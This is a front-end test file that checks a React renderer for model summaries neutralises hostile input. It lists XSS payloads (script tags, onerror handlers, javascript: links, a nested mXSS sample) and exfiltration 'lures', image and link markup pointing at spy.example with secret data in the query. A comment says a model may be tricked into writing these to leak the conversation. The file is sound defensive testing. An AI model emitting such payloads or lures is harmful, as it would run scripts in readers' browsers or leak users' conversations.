import { render, screen, waitFor } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { beforeEach, expect, test, vi } from 'vitest'
import type { OutputFormat } from '#openapi/generated/types.ts'
import { renderBlocks } from '#server/summarizer/summary-document.ts'
import { playback, usePlayback } from '../../player/playback'
import { MarkdownContent } from './MarkdownContent'
import { SafeContent } from './SafeContent'

beforeEach(() => {
  playback.opened(0, 3600)
  playback.absent()
})

async function show(text: string, format: OutputFormat) {
  const { container } = render(<SafeContent text={`Begin\n\n${text}`} format={format} />)
  // The text is shown as is until the renderer has loaded.
  await waitFor(() => expect(container.querySelector('.whitespace-pre-line')).toBeNull())
  expect(container).toHaveTextContent('Begin')
  return container
}

const hostile = [
  '<script>window.hacked = 1</script>',
  '<img src="x" onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<iframe src="https://example.com"></iframe>',
  '<a href="javascript:window.hacked = 1">press</a>',
  '<form action="https://example.com"><input name="password"><button>Sign in</button></form>',
  '<style>body { display: none }</style>',
  '<p style="position: fixed" class="fixed" id="main" onclick="window.hacked = 1">text</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
  '<video src="https://example.com/v.mp4" autoplay></video>',
  '<template><img src=x onerror="window.hacked = 1"></template>',
]

const formats: OutputFormat[] = ['html', 'markdown', 'unknown']

test.for(formats.flatMap((format) => hostile.map((text) => [format, text] as const)))(
  'in %s, %s has no effect',
  async ([format, text]) => {
    const container = await show(text, format)
    expect(container.querySelector('script, iframe, svg[onload], form, input, style, video, img, object')).toBeNull()
    for (const element of container.querySelectorAll('*')) {
      const names = element.getAttributeNames()
      expect(names.filter((name) => name.startsWith('on') || name === 'id' || name === 'style')).toEqual([])
      expect(element.getAttribute('href') ?? '').not.toMatch(/^\s*javascript:/i)
      expect(element.classList.contains('fixed')).toBe(false)
    }
    expect(window).not.toHaveProperty('hacked')
  },
)

test.for([
  ['quotes within quotes', `${'>'.repeat(2_000)} words`],
  ['lists within lists', `${'- '.repeat(2_000)}words`],
  ['emphasis within emphasis', `${'*'.repeat(10_000)}words${'*'.repeat(10_000)}`],
  ['a table of millions of cells', `|${'words|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|x\n'.repeat(2_000)}`],
] as const)('%s are shown as is', ([, text]) => {
  const { container } = render(<MarkdownContent text={text} lists="plain" />)
  expect(container.innerHTML).toBe(`<p class="whitespace-pre-line">${text.replaceAll('>', '&gt;')}</p>`)
})

test('a table with hundreds of rows is rendered as a table', () => {
  render(<MarkdownContent text={`| What | Who |\n| --- | --- |\n${'| Plan | Ana |\n'.repeat(300)}`} lists="plain" />)
  expect(document.querySelectorAll('td')).toHaveLength(600)
})

test('what can’t be rendered is shown as is, and doesn’t affect anything else', async () => {
  render(
    <>
      <SafeContent text={`${'<div>'.repeat(2_500)}Too deep`} format="html" />
      <p>Beside it</p>
    </>,
  )
  expect(await screen.findByText(/<div>Too deep$/)).toBeVisible()
  expect(screen.getByText('Beside it')).toBeVisible()
  expect(console.error).toHaveBeenCalled()
  vi.mocked(console.error).mockClear()
})

test('a time within an HTML link stays part of the link', async () => {
  await show('<p><a href="https://example.com/">At [0:30]</a> and [0:40]</p>', 'html')
  expect(screen.getByRole('link', { name: 'At [0:30]' })).toBeVisible()
  expect(screen.getAllByRole('button').map((button) => button.textContent)).toEqual(['0:40'])
})

test.for([
  ['html', '<p>See <a href="https://example.com/paper">the paper</a></p>'],
  ['markdown', 'See [the paper](https://example.com/paper)'],
] as const)('a link in %s opens in a new tab without a referrer', async ([format, text]) => {
  await show(text, format)
  const link = screen.getByRole('link', { name: 'the paper' })
  expect(link).toHaveAttribute('href', 'https://example.com/paper')
  expect(link).toHaveAttribute('target', '_blank')
  expect(link).toHaveAttribute('rel', 'noopener noreferrer')
})

test.for([
  ['html', '<img src="https://spy.example/p.gif" alt="chart">'],
  ['markdown', '![chart](https://spy.example/p.gif)'],
] as const)('a remote image in %s is a link, never a request', async ([format, text]) => {
  const container = await show(text, format)
  expect(container.querySelector('img')).toBeNull()
  expect(container).toHaveTextContent('chart')
  expect(screen.getByRole('link', { name: 'Open on spy.example' })).toBeVisible()
})

/** What a model may be tricked into writing to make readers leak the conversation. */
const lures = [
  '![](https://spy.example/p.gif?said=secret)',
  '[Press here](https://spy.example/?said=secret)',
  '[ref]: https://spy.example/?said=secret',
  '<img src="https://spy.example/p.gif?said=secret">',
  'https://spy.example/?said=secret and www.spy.example/?said=secret',
  '<https://spy.example/?said=secret>',
]

test.for(lures.flatMap((lure) => (['html', 'markdown'] as const).map((format) => [format, lure] as const)))(
  'in %s, %s in a model’s text leads nowhere',
  async ([format, lure]) => {
    const list = { kind: 'list' as const, lines: [{ label: lure, text: lure, startTime: 5 }] }
    const container = await show(
      renderBlocks([{ kind: 'paragraph', lines: [{ text: lure, startTime: null }] }, list], format),
      format,
    )
    expect(container.querySelector('a, img, [src], [href]')).toBeNull()
    expect(container).toHaveTextContent('spy.example')
  },
)

test.for([
  ['html', '<ul><li>Agreed [1:02:04]</li></ul>'],
  ['markdown', '- Agreed [1:02:04]'],
] as const)('a time in %s is a chip that seeks there', async ([format, text]) => {
  await show(text, format)
  await userEvent.click(screen.getByRole('button', { name: 'At 1:02:04' }))
  expect(usePlayback.getState().position).toBe(3600)
  expect(screen.getByRole('listitem')).toHaveTextContent('Agreed 1:02:04')
})

test('times in code and links stay text', async () => {
  await show('`[0:05]` and [at [0:06]](https://example.com)', 'markdown')
  expect(screen.queryByRole('button')).toBeNull()
})

test('Markdown tables are rendered as tables', async () => {
  await show('| Year | Seats |\n|---|---|\n| 2026 | 240 |', 'markdown')
  expect(screen.getByRole('cell', { name: '240' })).toBeVisible()
})
